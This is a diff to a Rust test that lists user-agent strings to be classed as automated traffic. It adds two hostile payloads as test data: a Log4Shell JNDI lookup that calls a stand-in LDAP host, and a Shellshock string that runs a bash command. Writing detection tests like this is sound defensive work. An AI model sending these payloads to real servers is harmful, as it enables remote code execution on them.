@@ -49,6 +49,9 @@ fn what_no_person_sits_at_is_automated() {
         "YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html",
         "Mozilla/5.0 SeznamEmailProxy/2.0.174",
         "RamblerMail/6.0 (incompatible; ImageProxy/6.0)",
+        // Attackers.
+        "${jndi:ldap://host.example/a}",
+        "() { :; }; /bin/bash -c id",
         // The phone is a mask.
         "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider)",
     ] {
